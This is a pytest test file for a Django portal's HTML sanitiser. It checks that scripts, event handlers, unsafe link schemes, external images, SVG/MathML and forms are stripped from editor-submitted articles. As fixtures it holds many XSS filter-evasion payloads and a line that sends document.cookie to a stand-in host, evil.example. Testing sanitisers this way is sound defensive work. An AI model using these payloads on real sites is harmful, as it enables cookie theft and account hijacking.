"""What an editor's HTML becomes: no script survives (whatever its disguise), no request leaves
for another site, and the structure an article needs is kept."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from hoctap.accounts.models import Role, User
from hoctap.accounts.tests.factories import user_with_role
from hoctap.conftest import People, Tree
from hoctap.portal import services
from hoctap.portal.models import Article
from hoctap.portal.sanitising import clean_html, plain_text

# Words that must never reach a page, whatever the markup around them.
DANGEROUS = ("script", "alert", "javascript", "vbscript", "onerror", "onclick", "onload", "data:")


def assert_harmless(html: str) -> None:
    lowered = html.lower()
    for word in DANGEROUS:
        assert word not in lowered, f"{word!r} survived in {html!r}"


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        ("<p>Trước<script>alert('x')</script>Sau</p>", "<p>TrướcSau</p>"),
        ("<p>A</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<p>A</p>"),
        ('<script type="text/javascript">document.cookie</script><p>B</p>', "<p>B</p>"),
        ("<p>C<noscript><p>D</p></noscript></p>", "<p>C</p>"),
        ("<template><script>alert(1)</script></template><p>E</p>", "<p>E</p>"),
    ],
)
def test_scripts_are_removed_with_their_text(dirty: str, clean: str) -> None:
    assert clean_html(dirty) == clean


@pytest.mark.parametrize(
    "dirty",
    [
        '<p onclick="alert(1)">Đoạn</p>',
        '<p ONMOUSEOVER="alert(1)">Đoạn</p>',
        '<img src="/media/a.png" alt="Ảnh" onerror="alert(1)">',
        '<a href="https://example.org" onfocus="alert(1)" autofocus>Đoạn</a>',
        '<table onload="alert(1)"><tr><td>Ô</td></tr></table>',
    ],
)
def test_event_handlers_are_removed(dirty: str) -> None:
    cleaned = clean_html(dirty)

    assert_harmless(cleaned)
    assert "autofocus" not in cleaned


def test_styles_are_removed() -> None:
    cleaned = clean_html(
        '<style>body{background:url("javascript:alert(1)")}</style>'
        '<p style="position:fixed;top:0">Chữ</p><link rel="stylesheet" href="/x.css">'
    )

    assert cleaned == "<p>Chữ</p>"


@pytest.mark.parametrize(
    "dirty",
    [
        '<iframe src="https://evil.example/">khung</iframe>',
        '<object data="/x.swf">đối tượng</object>',
        '<embed src="/x.swf">',
        '<frameset><frame src="https://evil.example/"></frameset>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ],
)
def test_frames_objects_and_embeds_are_removed(dirty: str) -> None:
    cleaned = clean_html(dirty)

    for tag in ("iframe", "object", "embed", "frame", "base", "meta", "evil"):
        assert tag not in cleaned


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "JaVaScRiPt:alert(1)",
        "  javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "jav&#x0D;ascript:alert(1)",
        "java\tscript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_links_other_than_web_and_mail_are_dropped(href: str) -> None:
    cleaned = clean_html(f'<a href="{href}">Bấm vào đây</a>')

    assert "href" not in cleaned
    assert "Bấm vào đây" in cleaned
    assert_harmless(cleaned)


def test_web_and_mail_links_are_kept_without_a_handle_on_the_portal() -> None:
    cleaned = clean_html(
        '<a href="https://moet.gov.vn/" target="_blank">Bộ</a> '
        '<a href="mailto:xa@example.vn">Thư</a> <a href="/portal/articles/">Tin</a>'
    )

    assert '<a href="https://moet.gov.vn/" rel="noopener noreferrer nofollow">Bộ</a>' in cleaned
    assert 'href="mailto:xa@example.vn"' in cleaned
    assert 'href="/portal/articles/"' in cleaned
    assert "target" not in cleaned


@pytest.mark.parametrize(
    "src",
    [
        "https://evil.example/pixel.gif",
        "http://evil.example/pixel.gif",
        "//evil.example/pixel.gif",
        "/\\evil.example/pixel.gif",
        "\\\\evil.example/pixel.gif",
        "/&#x09;/evil.example/pixel.gif",
        "/&#10;/evil.example/pixel.gif",
        " //evil.example/pixel.gif",
        "data:image/png;base64,iVBORw0KGgo=",
        "javascript:alert(1)",
        "media/relative.png",
    ],
)
def test_images_from_other_sites_lose_their_source(src: str) -> None:
    cleaned = clean_html(f'<img src="{src}" alt="Ảnh">')

    assert cleaned == '<img alt="Ảnh">'


def test_an_image_of_the_site_keeps_its_source_and_description() -> None:
    cleaned = clean_html(
        '<figure><img src="/portal/articles/3/image/" alt="Lớp học" width="320" height="200" '
        'srcset="https://evil.example/x.png 2x" loading="lazy"><figcaption>Lớp học tối</figcaption>'
        "</figure>"
    )

    assert cleaned == (
        '<figure><img src="/portal/articles/3/image/" alt="Lớp học" width="320" height="200">'
        "<figcaption>Lớp học tối</figcaption></figure>"
    )


@pytest.mark.parametrize(
    "dirty",
    [
        '<svg onload="alert(1)"><circle r="5"/></svg>',
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text>Bấm</text></a></svg>',
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
        '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    ],
)
def test_svg_and_mathml_with_script_are_removed(dirty: str) -> None:
    cleaned = clean_html(dirty)

    assert_harmless(cleaned)
    assert "<svg" not in cleaned
    assert "<math" not in cleaned


def test_forms_and_inputs_are_removed() -> None:
    cleaned = clean_html(
        '<form action="https://evil.example/steal" method="post"><label>Mật khẩu</label>'
        '<input type="password" name="p"><textarea>t</textarea><select><option>o</option>'
        '</select><button formaction="javascript:alert(1)">Gửi</button></form>'
    )

    for tag in ("<form", "<input", "<textarea", "<select", "<button", "<label", "evil"):
        assert tag not in cleaned
    assert_harmless(cleaned)


@pytest.mark.parametrize(
    "dirty",
    [
        "<<script>script>alert(1)<</script>/script>",
        '<img src="x" onerror="alert(1)"//',
        '<p title="</p><script>alert(1)</script>">x</p>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<!--<script>alert(1)</script>-->",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ],
)
def test_malformed_markup_does_not_smuggle_a_script(dirty: str) -> None:
    cleaned = clean_html(dirty)

    assert "<script" not in cleaned.lower()
    assert "onerror=" not in cleaned.lower()
    assert "<!--" not in cleaned


def test_the_structure_of_an_article_is_kept() -> None:
    html = (
        "<h2>Mục đích</h2><h3>Yêu cầu</h3><h4>Chi tiết</h4>"
        "<p><strong>Đậm</strong> <em>nghiêng</em> <u>gạch</u> <s>bỏ</s> H<sub>2</sub>O "
        "m<sup>2</sup><br>dòng mới</p><hr>"
        "<ul><li>Một</li><li>Hai</li></ul><ol><li>Thứ nhất</li></ol>"
        "<blockquote>Học, học nữa, học mãi.</blockquote>"
        '<table><caption>Kết quả</caption><thead><tr><th scope="col">Năm</th>'
        '<th scope="col" colspan="2">Tỉ lệ</th></tr></thead>'
        '<tbody><tr><td rowspan="2">2025</td><td>72%</td></tr></tbody></table>'
    )

    assert clean_html(html) == html


def test_headings_above_two_become_text() -> None:
    # The page's own title is the only <h1>; an article starts at <h2>.
    assert clean_html("<h1>Tiêu đề</h1>") == "Tiêu đề"


def test_plain_text_has_no_tags_at_all() -> None:
    assert plain_text("<h2>Tin</h2>\n<p>Ngày <b>2/10</b></p><script>alert(1)</script>") == (
        "Tin Ngày 2/10"
    )


# -- an article with malicious HTML ------------------------------------------------------------

MALICIOUS = (
    "<h2>Thông báo</h2>"
    '<p onmouseover="alert(1)">Kính mời bà con dự <a href="jav&#x09;ascript:alert(2)">ngày hội</a>.'
    "</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
    '<img src="https://evil.example/pixel.gif" alt="theo dõi">'
    '<iframe src="https://evil.example/"></iframe><svg onload="alert(3)"></svg>'
    '<form action="https://evil.example/"><input name="cccd"></form>'
)


@pytest.fixture(autouse=True)
def _media_root(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    cache.clear()


@pytest.fixture
def editor(tree: Tree, people: People) -> User:
    return user_with_role(Role.PORTAL_EDITOR, tree.commune, "bientap")


def test_an_article_with_malicious_html_is_stored_clean(
    client: Client, editor: User, tree: Tree
) -> None:
    client.force_login(editor)

    client.post(
        f"{reverse('portal:article_new')}?unit={tree.commune.key}",
        {"kind": "news", "title": "Ngày hội", "body": MALICIOUS},
    )

    article = Article.objects.get()
    assert article.body == (
        "<h2>Thông báo</h2><p>Kính mời bà con dự "
        '<a rel="noopener noreferrer nofollow">ngày hội</a>.</p>'
        '<img alt="theo dõi">'
    )
    assert "evil" not in article.search_text
    assert "fetch" not in article.search_text


def test_an_article_with_malicious_html_is_shown_clean(
    client: Client, editor: User, tree: Tree
) -> None:
    # given: published with the malicious body
    article = services.article_save(
        editor, unit=tree.commune, values={"kind": "news", "title": "Ngày hội", "body": MALICIOUS}
    )
    services.publish(editor, article, revision=article.revision)
    article.refresh_from_db()

    # when: a visitor reads it, and the editor opens it again
    public = Client()
    public.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"
    page = public.get(reverse("portal:article", args=[article.pk, article.slug]))
    client.force_login(editor)
    edit = client.get(reverse("portal:article_edit", args=[article.pk]))

    # then
    assert page.status_code == 200
    html = page.content.decode()
    assert "Kính mời bà con dự" in html
    assert "evil.example" not in html
    assert "alert(" not in html
    assert "onmouseover" not in html
    assert "<iframe" not in html
    assert 'name="cccd"' not in html
    # the layout's own scripts are files; no inline script comes from the article
    assert "document.cookie" not in html
    preview = edit.content.decode().split('id="preview"', 1)[1]
    assert "evil.example" not in preview
    assert "<script" not in preview.split("</section>", 1)[0]
